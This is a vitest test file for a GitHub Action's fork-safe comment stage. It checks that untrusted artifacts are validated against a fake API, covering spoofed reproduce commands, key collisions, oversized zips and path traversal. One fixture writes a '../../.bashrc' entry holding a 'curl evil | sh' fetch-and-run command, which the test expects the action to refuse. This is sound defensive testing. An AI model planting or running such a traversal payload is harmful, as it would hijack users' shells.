import { strToU8, zipSync } from 'fflate'
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import * as path from 'node:path'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import { reproduceFlags, runCommentStage } from '../src/comment-stage.js'
import { describeEvent } from '../src/event.js'
import { getInputs } from '../src/inputs.js'
import { FakeGitHub } from './support/fake-github.js'
import { claimSize } from './support/zip.js'

// Stage two of the fork-safe setup against the fake API, with a real
// report.json from a recorded gate of the example service and this
// action's own engine (the suite's one build, copied where the stage
// would build it: support/shared-engine.ts). That the stage builds a fresh
// engine and never runs a cached one is comment-stage-engine.test.ts's.
vi.mock('../src/engine.js', async (original) => (await import('./support/shared-engine.js')).withSharedEngine(await original()))
const realReport = readFileSync(path.join(import.meta.dirname, '../engine/internal/hints/testdata/alloc-sprintf/report.json'))
const headSha = 'f'.repeat(40)
let tmp: string
let gh: FakeGitHub

beforeAll(() => {
  tmp = mkdtempSync(path.join(tmpdir(), 'perfgate-stage-'))
  process.env.RUNNER_TOOL_CACHE = path.join(tmp, 'tools')
  process.env.RUNNER_TEMP = path.join(tmp, 'runner')
  rmSync(process.env.RUNNER_TEMP, { recursive: true, force: true })
  mkdirSync(process.env.RUNNER_TEMP, { recursive: true })
})
afterAll(() => rmSync(tmp, { recursive: true, force: true }))

beforeEach(async () => {
  gh = new FakeGitHub()
  await gh.start()
  process.env.GITHUB_API_URL = gh.url
  process.env.GITHUB_STEP_SUMMARY = path.join(tmp, `summary-${Date.now()}.md`)
  process.env.GITHUB_OUTPUT = path.join(tmp, `output-${Date.now()}.txt`)
  writeFileSync(process.env.GITHUB_STEP_SUMMARY, '')
  writeFileSync(process.env.GITHUB_OUTPUT, '')
  gh.pulls = [{ number: 7, headSha, headRepo: 'mallory/shop', state: 'open' }]
})
afterEach(async () => {
  await gh.stop()
  expect(gh.problems).toEqual([])
})

const event = (pullRequests: number[] = []) =>
  describeEvent({
    eventName: 'workflow_run',
    repo: { owner: 'acme', repo: 'shop' },
    sha: 'c'.repeat(40),
    payload: {
      workflow_run: {
        id: 42,
        event: 'pull_request',
        head_sha: headSha,
        head_branch: 'feature',
        head_repository: { full_name: 'mallory/shop' },
        conclusion: 'failure',
        pull_requests: pullRequests.map((number) => ({ number })),
      },
    },
  })
const inputs = getInputs((n) => ({ mode: 'comment', token: 't0ken' })[n] ?? '')
let nextArtifactId = 900
const artifact = (files: Record<string, Uint8Array>, name = 'perfgate-results-attempt-1', sizeInBytes?: number) => {
  const zip = zipSync(files)
  return { id: nextArtifactId++, name, sizeInBytes: sizeInBytes ?? zip.byteLength, zip }
}
const outputs = () => readFileSync(process.env.GITHUB_OUTPUT!, 'utf8')

describe('runCommentStage', () => {
  it('comments the newest attempt on the pull request the API names, whatever the artifact says', async () => {
    gh.artifacts.set(42, [
      artifact({ 'report.json': strToU8('{"schema":1,"verdict":"pass","reason":"attempt 1"}') }),
      artifact({ 'report.json': realReport, 'pr.json': strToU8('{"number": 99}') }, 'perfgate-results-attempt-2'),
    ])
    await runCommentStage(inputs, event())
    const [c] = gh.comments.get(7) ?? []
    expect(c.body.split('\n')[0]).toBe('<!-- perfgate:report config=perfgate.yml -->')
    expect(c.body).toContain('`fmt.Sprintf`')
    expect(gh.comments.get(99)).toBeUndefined()
    // The verdict output is the recorded gate's own, whatever it was.
    expect(outputs()).toContain(`verdict<<`)
    expect(outputs()).toContain(`\n${(JSON.parse(realReport.toString('utf8')) as { verdict: string }).verdict}\n`)
    expect(readFileSync(process.env.GITHUB_STEP_SUMMARY!, 'utf8')).toContain('perfgate')
  })

  it("builds its comment's reproduce command from the workflow's inputs and the run's head commit, not from the artifact", async () => {
    const hostile = JSON.parse(realReport.toString('utf8')) as { command: string[]; build: { base: { revision: string } } }
    hostile.command = ['perfgate', 'gate', '--config', 'attacker/perfgate.yml', '--base', 'x']
    hostile.build.base.revision = 'badbadbadbadbad'
    gh.artifacts.set(42, [artifact({ 'report.json': strToU8(JSON.stringify(hostile)) })])
    const nested = getInputs(
      (n) => ({ mode: 'comment', token: 't0ken', 'working-directory': 'services/api', config: 'services/api/perf/perfgate.yml' })[n] ?? '',
    )
    await runCommentStage(nested, event())
    const [c] = gh.comments.get(7) ?? []
    const reproduce = c.body.slice(c.body.indexOf('<summary>Reproduce locally</summary>'))
    expect(reproduce).toContain(
      `\ngit checkout ${headSha}\nperfgate gate --config perf/perfgate.yml --base &lt;base&gt; --head . --out results/ --seed `,
    )
    expect(reproduce).not.toMatch(/attacker|badbad/)
  })

  it('refuses a report.json whose keys the engine and the action would read differently, naming the key', async () => {
    gh.artifacts.set(42, [artifact({ 'report.json': strToU8('{"schema":1,"verdict":"pass","reason":"","Verdict":"regression"}') })])
    await expect(runCommentStage(inputs, event())).rejects.toThrow(
      /not a valid perfgate report: .*"verdict" and "Verdict" at the top level, which differ only in case/,
    )
    expect(gh.comments.get(7) ?? []).toHaveLength(0)
  })

  it('refuses an artifact with a path that climbs out of the directory', async () => {
    gh.artifacts.set(42, [artifact({ 'report.json': realReport, '../../.bashrc': strToU8('curl evil | sh') })])
    await expect(runCommentStage(inputs, event())).rejects.toThrow(/refusing the results artifact: entry "..\/..\/.bashrc" climbs out/)
    expect(gh.comments.get(7) ?? []).toHaveLength(0)
  })

  it('refuses an artifact listed at 1 GB without downloading it', async () => {
    gh.artifacts.set(42, [artifact({ 'report.json': realReport }, 'perfgate-results-attempt-1', 1 << 30)])
    await expect(runCommentStage(inputs, event())).rejects.toThrow(/claims 1073741824 bytes/)
    expect(gh.count('blob')).toBe(0)
  })

  it('refuses a report.json claiming 1 GB inside the zip', async () => {
    const zip = claimSize(zipSync({ 'report.json': realReport }), 'report.json', 1 << 30)
    gh.artifacts.set(42, [{ id: 950, name: 'perfgate-results-attempt-1', sizeInBytes: zip.byteLength, zip }])
    await expect(runCommentStage(inputs, event())).rejects.toThrow(/report.json claims 1073741824 bytes/)
  })

  it('refuses a report.json with wrong types, as judged by the engine', async () => {
    gh.artifacts.set(42, [artifact({ 'report.json': strToU8('{"schema":"1","verdict":["regression"],"runs":"many"}') })])
    await expect(runCommentStage(inputs, event())).rejects.toThrow(/not a valid perfgate report/)
    expect(gh.comments.get(7) ?? []).toHaveLength(0)
  })

  it('refuses when the event names another pull request than the API does for the head commit', async () => {
    gh.artifacts.set(42, [artifact({ 'report.json': realReport })])
    await expect(runCommentStage(inputs, event([8]))).rejects.toThrow(/lists pull request\(s\) #8 .* but the API says #7/)
  })

  it('does not comment when no open pull request has the run head any more', async () => {
    gh.pulls[0].headSha = 'e'.repeat(40)
    gh.artifacts.set(42, [artifact({ 'report.json': realReport })])
    await runCommentStage(inputs, event())
    expect(gh.comments.get(7) ?? []).toHaveLength(0)
    expect(gh.count('actions/list-workflow-run-artifacts')).toBe(0)
  })
})

describe('reproduceFlags', () => {
  it.each([
    [{}, 'perfgate.yml'],
    [{ config: 'ci/perfgate.yml' }, 'ci/perfgate.yml'],
    [{ 'working-directory': 'services/api', config: 'services/api/perfgate.yml' }, 'perfgate.yml'],
    [{ 'working-directory': 'services/api', config: 'shared/perfgate.yml' }, '../../shared/perfgate.yml'],
  ])('names the config of %j relative to the working directory, as mode gate does', (given, config) => {
    const flags = reproduceFlags(
      getInputs((n) => ({ mode: 'comment', ...given })[n as 'mode'] ?? ''),
      headSha,
    )
    expect(flags).toEqual(['--reproduce-config', config, '--reproduce-head', headSha])
  })
})
